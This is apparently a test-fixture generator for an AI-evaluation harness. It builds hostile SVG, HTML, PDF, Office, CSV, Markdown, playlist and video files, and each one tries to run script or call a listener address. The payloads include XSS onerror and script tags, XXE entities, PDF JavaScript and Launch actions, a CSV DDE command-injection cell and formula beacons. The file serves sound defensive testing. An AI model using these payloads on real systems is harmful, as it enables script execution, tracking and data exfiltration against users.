// A harness run whose every asset, text and input file tries to call home or to run a script. Each address has a name of its
// own, so that a call says who made it.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { root } from './driver.mjs';

const crcTable = Array.from({ length: 256 }, (_, n) => {
  for (let bit = 0; bit < 8; bit++) n = n & 1 ? 0xedb88320 ^ (n >>> 1) : n >>> 1;
  return n >>> 0;
});
const crc32 = (bytes) => (bytes.reduce((crc, byte) => crcTable[(crc ^ byte) & 255] ^ (crc >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;

/** A zip of these files. */
function zip(files) {
  const parts = [];
  const index = [];
  let at = 0;
  for (const [name, content] of Object.entries(files)) {
    const bytes = Buffer.from(content);
    const packed = deflateRawSync(bytes);
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt16LE(8, 4);
    fields.writeUInt32LE(crc32(bytes), 10);
    fields.writeUInt32LE(packed.length, 14);
    fields.writeUInt32LE(bytes.length, 18);
    fields.writeUInt16LE(name.length, 22);
    parts.push(Buffer.from('PK\x03\x04', 'latin1'), fields, Buffer.from(name), packed);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(at, 10);
    index.push(Buffer.from('PK\x01\x02\x14\x00', 'latin1'), fields, tail, Buffer.from(name));
    at += 30 + name.length + packed.length;
  }
  const directory = Buffer.concat(index);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(Object.keys(files).length, 4);
  end.writeUInt16LE(Object.keys(files).length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...parts, directory, Buffer.from('PK\x05\x06', 'latin1'), end]);
}

const types = (parts) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${parts
    .map(([part, type]) => `<Override PartName="${part}" ContentType="application/vnd.openxmlformats-officedocument.${type}+xml"/>`)
    .join('')}</Types>`;
const relations = (list) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
    .map(([id, type, target, outside]) => `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${outside ? ' TargetMode="External"' : ''}/>`)
    .join('')}</Relationships>`;
const namespaces =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"';
const picture = (link) => `<pic:pic><pic:blipFill><a:blip ${link}/></pic:blipFill></pic:pic>`;

function docx(home) {
  return zip({
    '[Content_Types].xml': types([['/word/document.xml', 'wordprocessingml.document.main']]),
    '_rels/.rels': relations([['rId1', 'officeDocument', 'word/document.xml']]),
    'word/_rels/document.xml.rels': relations([
      ['rId1', 'image', home('docx-image.png'), true], ['rId2', 'hyperlink', home('docx-link'), true],
      ['rId3', 'attachedTemplate', home('docx-template.dotm'), true], ['rId4', 'oleObject', home('docx-object'), true],
      ['rId5', 'aFChunk', home('docx-chunk.html'), true], ['rId6', 'frame', home('docx-frame'), true], ['rId7', 'hyperlink', 'javascript:top.owned=1', true],
    ]),
    'word/document.xml': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY out SYSTEM "${home('docx-entity')}">]><w:document ${namespaces}><w:body>
      <w:p><w:r><w:t>Words of the document &out;</w:t></w:r></w:p>
      <w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData>${picture(`r:link="rId1"`)}${picture(`r:embed="rId1"`)}</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
      <w:p><w:hyperlink r:id="rId2"><w:r><w:t>a link</w:t></w:r></w:hyperlink><w:hyperlink r:id="rId7"><w:r><w:t>a script</w:t></w:r></w:hyperlink></w:p>
      <w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDEPICTURE "${home('docx-field.png')}" \\d </w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>
      <w:altChunk r:id="rId5"/><w:p><w:r><w:t>&lt;img src="${home('docx-text.png')}" onerror="top.owned=1"&gt;</w:t></w:r></w:p></w:body></w:document>`,
  });
}
function xlsx(home) {
  return zip({
    '[Content_Types].xml': types([['/xl/workbook.xml', 'spreadsheetml.sheet.main'], ['/xl/worksheets/sheet1.xml', 'spreadsheetml.worksheet']]),
    '_rels/.rels': relations([['rId1', 'officeDocument', 'xl/workbook.xml']]),
    'xl/_rels/workbook.xml.rels': relations([['rId1', 'worksheet', 'worksheets/sheet1.xml'], ['rId2', 'externalLink', 'externalLinks/externalLink1.xml']]),
    'xl/workbook.xml': '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>',
    'xl/externalLinks/externalLink1.xml': '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>',
    'xl/externalLinks/_rels/externalLink1.xml.rels': relations([['rId1', 'externalLinkPath', home('xlsx-book.xlsx'), true]]),
    'xl/connections.xml': `<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="${home('xlsx-query')}"/></connection></connections>`,
    'xl/worksheets/_rels/sheet1.xml.rels': relations([['rId1', 'hyperlink', home('xlsx-link'), true]]),
    'xl/worksheets/sheet1.xml': `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>
      <row r="1"><c r="A1" t="inlineStr"><is><t>&lt;img src=${home('xlsx-text.png')} onerror=top.owned=1&gt;</t></is></c><c r="B1"><f>WEBSERVICE("${home('xlsx-formula')}")</f><v>1</v></c><c r="C1"><f>[1]Sheet1!A1</f><v>2</v></c><c r="D1"><f>IMAGE("${home('xlsx-image.png')}")</f><v>3</v></c></row></sheetData><hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks></worksheet>`,
  });
}
function pptx(home) {
  return zip({
    '[Content_Types].xml': types([['/ppt/presentation.xml', 'presentationml.presentation.main'], ['/ppt/slides/slide1.xml', 'presentationml.slide']]),
    '_rels/.rels': relations([['rId1', 'officeDocument', 'ppt/presentation.xml']]),
    'ppt/_rels/presentation.xml.rels': relations([['rId1', 'slide', 'slides/slide1.xml']]),
    'ppt/presentation.xml': `<?xml version="1.0"?><p:presentation ${namespaces}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>`,
    'ppt/slides/_rels/slide1.xml.rels': relations([
      ['rId1', 'image', home('pptx-image.png'), true], ['rId2', 'hyperlink', home('pptx-link'), true], ['rId3', 'video', home('pptx-video.mp4'), true], ['rId4', 'audio', home('pptx-sound.mp3'), true],
    ]),
    'ppt/slides/slide1.xml': `<?xml version="1.0"?><p:sld ${namespaces}><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:rPr><a:hlinkClick r:id="rId2"/></a:rPr><a:t>Words of the slide</a:t></a:r></a:p></p:txBody></p:sp>
      <p:pic><p:nvPicPr><p:nvPr><a:videoFile r:link="rId3"/><a:audioFile r:link="rId4"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link="rId1"/></p:blipFill></p:pic></p:spTree></p:cSld></p:sld>`,
  });
}

function pdf(home) {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 6 0 R /WS 6 0 R >> /AcroForm << /Fields [10 0 R] /XFA 9 0 R /NeedAppearances true >>
       /Names << /JavaScript << /Names [(a) 5 0 R] >> >> /URI << /Base (${home('pdf-base')}/) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /AA << /O 6 0 R >> /Annots [7 0 R 8 0 R 10 0 R 11 0 R 12 0 R] /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /X 13 0 R >> >> >>',
    '<< /Length 54 >>\nstream\nBT /F 18 Tf 20 100 Td (Words of the page) Tj ET /X Do \nendstream',
    `<< /S /JavaScript /JS (app.launchURL\\("${home('pdf-script')}"\\); this.submitForm\\("${home('pdf-submit')}"\\);) /Next 6 0 R >>`,
    `<< /S /URI /URI (${home('pdf-open')}) >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${home('pdf-link')}) >> /AA << /PV 6 0 R /PO 6 0 R >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F << /FS /URL /F (${home('pdf-remote.pdf')}) >> /D [0 /Fit] >> >>`,
    `<< /Length 0 >>\nstream\n\nendstream`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 99 99] /A << /S /SubmitForm /F << /FS /URL /F (${home('pdf-form')}) >> >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [0 0 99 99] /A << /S /Launch /F (/bin/true) /Next << /S /Rendition /R << /S /MR /C << /S /MCD /D << /Type /Filespec /FS /URL /F (${home('pdf-clip.mp4')}) >> >> >> >> >> >>`,
    `<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /FS /URL /F (${home('pdf-file')}) >> >>`,
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 /F << /FS /URL /F (${home('pdf-image')}) >> >>\nstream\n\nendstream`,
  ];
  let out = '%PDF-1.7\n';
  const places = objects.map((object, n) => {
    const at = out.length;
    out += `${n + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}`;
  return Buffer.from(`${out}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`, 'latin1');
}

const box = (kind, ...parts) => {
  const body = Buffer.concat(parts.map((part) => Buffer.from(part)));
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length + 8);
  head.write(kind, 4, 'latin1');
  return Buffer.concat([head, body]);
};
/** A film whose samples lie at another address, and which says that another file is the film. */
function film(home, clip) {
  const boxes = (bytes) => {
    const all = [];
    for (let at = 0; at + 8 <= bytes.length; ) {
      const size = bytes.readUInt32BE(at);
      if (size < 8) break;
      all.push([bytes.toString('latin1', at + 4, at + 8), bytes.subarray(at + 8, at + size)]);
      at += size;
    }
    return all;
  };
  const inside = ['moov', 'trak', 'mdia', 'minf', 'dinf'];
  const outside = (bytes) =>
    Buffer.concat(boxes(bytes).map(([kind, body]) => {
      if (inside.includes(kind)) return box(kind, outside(body));
      if (kind === 'dref') return box('dref', [0, 0, 0, 0, 0, 0, 0, 1], box('url ', [0, 0, 0, 0], `${home('mp4-data.mp4')}\0`));
      return box(kind, body);
    }));
  return outside(clip);
}
const reference = (home) => {
  const address = Buffer.from(`${home('mp4-reference.mp4')}\0`);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(address.length);
  return Buffer.concat([
    box('ftyp', 'qt  \0\0\0\0qt  isom'),
    box('moov', box('rmra', box('rmda', box('rdrf', [0, 0, 0, 0], 'url ', length, address)))),
  ]);
};

const script = (home, name) => `document.title='OWNED';try{top.owned=1;top.document.title='OWNED'}catch(e){};fetch('${home(`${name}-fetch`)}');new Image().src='${home(`${name}-image`)}';navigator.sendBeacon('${home(`${name}-beacon`)}')`;
const html = (home, name) => `<!doctype html><html><head><meta charset=utf-8><title>t</title><base href="${home(`${name}-base/`)}"><meta http-equiv=refresh content="0;url=${home(`${name}-refresh`)}">
<link rel=stylesheet href="${home(`${name}.css`)}"><link rel=preload as=image href="${home(`${name}-preload.png`)}"><link rel=icon href="${home(`${name}-icon.ico`)}"><link rel=prefetch href="${home(`${name}-prefetch`)}"><link rel=preconnect href="${home('')}">
<style>@import url("${home(`${name}-import.css`)}");@font-face{font-family:x;src:url("${home(`${name}.woff2`)}")}body{font-family:x;background:url("${home(`${name}-background.png`)}")}</style>
<script>${script(home, name)}</script><script src="${home(`${name}.js`)}"></script></head><body onload="${script(home, `${name}-onload`)}"><p>Words of the page</p><img src="${home(`${name}.png`)}" onerror="top.owned=1"><img srcset="${home(`${name}-set.png`)} 2x">
<iframe src="${home(`${name}-frame`)}"></iframe><iframe srcdoc="&lt;script&gt;top.owned=1&lt;/script&gt;&lt;img src='${home(`${name}-srcdoc.png`)}'&gt;"></iframe><object data="${home(`${name}-object`)}"></object><embed src="${home(`${name}-embed`)}"><video src="${home(`${name}.mp4`)}" poster="${home(`${name}-poster.png`)}" autoplay></video><audio src="${home(`${name}.mp3`)}" autoplay></audio>
<form action="${home(`${name}-form`)}"><input name=a></form><script>document.forms[0].submit()</script><a href="${home(`${name}-link`)}" ping="${home(`${name}-ping`)}">link</a><svg><image href="${home(`${name}-svg.png`)}"/><use href="${home(`${name}-use.svg`)}#a"/></svg></body></html>`;
const svg = (home) => `<?xml version="1.0"?><?xml-stylesheet href="${home('svg-sheet.css')}"?><!DOCTYPE svg [<!ENTITY out SYSTEM "${home('svg-entity')}">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="${script(home, 'svg-onload').replaceAll('&', '&amp;')}"><style>@import url("${home('svg-import.css')}");@font-face{font-family:x;src:url("${home('svg.woff2')}")}text{font-family:x;fill:url("${home('svg-paint.svg')}#a")}</style>
<script>${script(home, 'svg')}</script><script href="${home('svg.js')}"/><image href="${home('svg-image.png')}" width="50" height="50"/><image xlink:href="${home('svg-xlink.png')}" width="50" height="50"/><use href="${home('svg-use.svg')}#a"/><feImage href="${home('svg-filter.png')}"/><a href="${home('svg-link')}"><text y="50">picture</text></a>
<foreignObject width="200" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${home('svg-foreign.png')}" onerror="top.owned=1"/><iframe src="${home('svg-frame')}"/><script>${script(home, 'svg-foreign')}</script></body></foreignObject></svg>`;
const markdown = (home, name) => `# Words of the text\n\n![picture](${home(`${name}-image.png`)}) [link](${home(`${name}-link`)}) <${home(`${name}-auto`)}> ${home(`${name}-bare`)} [script](javascript:top.owned=1)\n\n[r]: ${home(`${name}-reference`)}\n\n![r] [data](data:text/html,<script>top.owned=1</script>)\n\n<img src="${home(`${name}-html.png`)}" onerror="top.owned=1"><script>top.owned=1</script><iframe src="${home(`${name}-frame`)}"></iframe>\n\n<style>@import url(${home(`${name}.css`)})</style>\n\n\`\`\`html\n<img src=x onerror=top.owned=1>\n\`\`\`\n\n| a |\n|--|\n| ![](${home(`${name}-cell.png`)}) |\n`;

/** Every hostile file by name, with the modality it comes as. `home(name)` is an address of the listener. */
export function files(home) {
  const clip = readFileSync(path.join(root, 'tests/fixtures/media/clip.mp4'));
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  return [
    ['Image', 'picture.svg', 'image/svg+xml', svg(home)],
    ['Image', 'plain.svg', 'image/svg+xml', svg(home).replace(/^[^]*?(?=<svg)/, '')],
    ['Image', 'not-a-picture.png', 'image/png', html(home, 'html-as-png')],
    ['Image', 'tail.png', 'image/png', Buffer.concat([png, Buffer.from(html(home, 'html-behind-png'))])],
    ['Document', 'page.html', 'text/html', html(home, 'html')],
    ['Document', 'page.pdf', 'application/pdf', pdf(home)],
    ['Document', 'report.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', docx(home)],
    ['Document', 'book.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', xlsx(home)],
    ['Document', 'slides.pptx', 'application/vnd.openxmlformats-officedocument.presentationml.presentation', pptx(home)],
    ['Document', 'note.md', 'text/markdown', markdown(home, 'md')],
    ['Document', 'style.css', 'text/css', `@import url("${home('css-import.css')}");body{background:url(${home('css.png')})}`],
    ['Document', 'table.csv', 'text/csv', `name,value\n"=WEBSERVICE(""${home('csv-formula')}"")","=cmd|' /C calc'!A0"\n"<img src=${home('csv.png')} onerror=top.owned=1>",${home('csv-link')}\n`],
    ['Document', 'note.rtf', 'text/rtf', `{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "${home('rtf.png')}"}{\\fldrslt x}}{\\object\\objautlink{\\*\\objdata ${home('rtf-object')}}}}`],
    ['Document', 'list.xml', 'application/xml', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${home('xml.xsl')}"?><!DOCTYPE a SYSTEM "${home('xml.dtd')}"><a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${home('xml-include')}"/></a>`],
    ['Document', 'lines.srt', 'application/x-subrip', `1\n00:00:00,000 --> 00:00:09,000\n<img src="${home('srt.png')}"><font face="${home('srt-font')}">words</font>\n`],
    ['Document', 'lines.vtt', 'text/vtt', `WEBVTT\n\nSTYLE\n::cue{background-image:url(${home('vtt.png')})}\n\n00:00.000 --> 00:09.000\n<c>words</c>\n`],
    ['Video', 'list.m3u8', 'application/vnd.apple.mpegurl', `#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI="${home('m3u8-key')}"\n#EXT-X-MAP:URI="${home('m3u8-map.mp4')}"\n#EXTINF:9,\n${home('m3u8-part.ts')}\n#EXT-X-ENDLIST\n`],
    ['Video', 'list.mpd', 'application/dash+xml', `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S"><Period><BaseURL>${home('mpd/')}</BaseURL><AdaptationSet mimeType="video/mp4"><Representation id="a" bandwidth="1"><BaseURL>${home('mpd-part.mp4')}</BaseURL></Representation></AdaptationSet></Period></MPD>`],
    ['Video', 'outside.mp4', 'video/mp4', film(home, clip)],
    ['Video', 'reference.mov', 'video/quicktime', reference(home)],
    ['Audio', 'list.pls', 'audio/x-scpls', `[playlist]\nFile1=${home('pls.mp3')}\nNumberOfEntries=1\n`],
    ['Audio', 'list.mp3', 'audio/mpeg', `#EXTM3U\n#EXTINF:9,\n${home('m3u-as-mp3.mp3')}\n`],
  ].map(([modality, name, mime, bytes]) => ({ modality, name, mime, bytes: Buffer.from(bytes) }));
}

/** Writes the run below `folder`: one prompt for each hostile file, as input and as answer. Answers its path. */
export function hostileRun(folder, home) {
  const run = path.join(folder, 'run');
  const results = path.join(run, 'results/main');
  const stem = '20260101_000000_m';
  const all = files(home);
  const modalities = ['Text', 'Image', 'Audio', 'Video', 'Document'];
  mkdirSync(path.join(run, 'input_files'), { recursive: true });
  const prompts = [];
  const rows = [];
  for (const [n, file] of all.entries()) {
    const key = `p${100 + n}`;
    const input = `${key}_${file.name}`;
    writeFileSync(path.join(run, 'input_files', input), file.bytes);
    const local = `${stem}_assets/${key}/${key}_output_0_${file.modality.toLowerCase()}${path.extname(file.name)}`;
    mkdirSync(path.dirname(path.join(results, local)), { recursive: true });
    writeFileSync(path.join(results, local), file.bytes);
    const expected = ['Text', file.modality];
    const criteria = expected.map((modality, at) => ({ id: String(at + 1), criterion: `Delivers it. ${markdown(home, 'criterion')}`, modality: modality.toLowerCase() }));
    prompts.push({
      prompt_id: key, prompt_text: `Hostile: ${file.name}\n\n${markdown(home, 'prompt')}`, input_modalities: `Text, ${file.modality}`, output_modalities: expected.join(', '),
      input_files: input, rubrics: JSON.stringify({ criteria }),
    });
    const per = Object.fromEntries(modalities.map((name) => {
      const there = expected.includes(name);
      return [name, { detected_native: there, detected_via_url: false, detected_via_judge: false, pass_strict: there, pass_lenient: there }];
    }));
    rows.push({
      prompt_id: key, run_name: 'm', provider: 'stub', model: 'm', expected_modalities: expected, per_modality: per, all_pass_lenient: true, all_pass_strict: true,
      precision: 1, recall: 1, f1: 1, precision_strict: 1, recall_strict: 1, f1_strict: 1, judge_used: false, judge_model: '', judge_reasoning: '', is_error: false, error_message: '', error_type: '',
      raw_response: null, response_text: markdown(home, 'answer'), request: null, tool_calls: [], rubric_used: true, rubric_score: 1,
      output_assets: [{
        asset_id: `${key}_output_0`, prompt_id: key, modality: file.modality, source_type: 'provider_inline', delivery: 'provider_inline', mime_type: file.mime, modality_hint: '',
        local_path: `/srv/evals/results/main/${local}`, source_url: home('source'), sha256: '', size_bytes: 0, capture_status: 'captured', error: '', metadata: {},
      }],
      rubric_grades: expected.map((modality, at) => ({ index: at + 1, id: String(at + 1), rubric: 'Delivers it.', modality, score: 1, explanation: markdown(home, 'grade'), evaluator_error: false, payload_status: 'gradeable' })),
      rubric_evaluator_errors: 0, rubric_judge_model: 'stub', produced_modalities: expected,
    });
  }
  const lines = (values) => values.map((value) => `${JSON.stringify(value)}\n`).join('');
  writeFileSync(path.join(run, 'dataset.jsonl'), lines(prompts));
  writeFileSync(path.join(results, `${stem}.jsonl`), lines(rows));
  // A person contradicts the judge everywhere, so that an auditor meets every case.
  const quoted = (text) => `"${text.replaceAll('"', '""')}"`;
  const verdicts = all.map((file, n) => `mia,p${100 + n},m,${file.modality},incorrect,${quoted(markdown(home, 'comment'))},no,9\n`);
  writeFileSync(path.join(run, 'human_verdicts.csv'), `annotator,prompt_id,model,modality,verdict,comment,ai_assisted,seconds\n${verdicts.join('')}`);
  writeFileSync(path.join(run, 'main_config.txt'), 'main\n');
  return { run, names: all.map((file) => file.name) };
}
